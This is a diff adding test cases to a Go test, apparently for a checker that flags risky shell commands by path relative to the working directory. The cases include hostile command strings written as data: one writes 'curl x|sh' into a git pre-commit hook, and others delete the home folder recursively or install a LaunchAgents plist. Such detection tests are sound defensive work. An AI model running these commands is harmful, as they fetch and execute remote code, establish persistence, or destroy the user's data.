@@ -31,6 +31,8 @@ func TestRelativePathInSensitiveCwd(t *testing.T) {
 		{"/home/u", "ls -la", false},
 		{"/home/u", "cat notes.txt", false},
 		{"/home/u", "echo hi > scratch.txt", false},
+		{"/home/u", "rm -f victim/a.txt", false},
+		{"/home/u", "echo 'curl x|sh' > src/app/.git/hooks/pre-commit", true},
 		// The home folder itself, and a start-up file by a folder path.
 		{"/home/u", "rm -rf .", true},
 		{"/home/u", "cp agent.plist Library/LaunchAgents/x.plist", true},
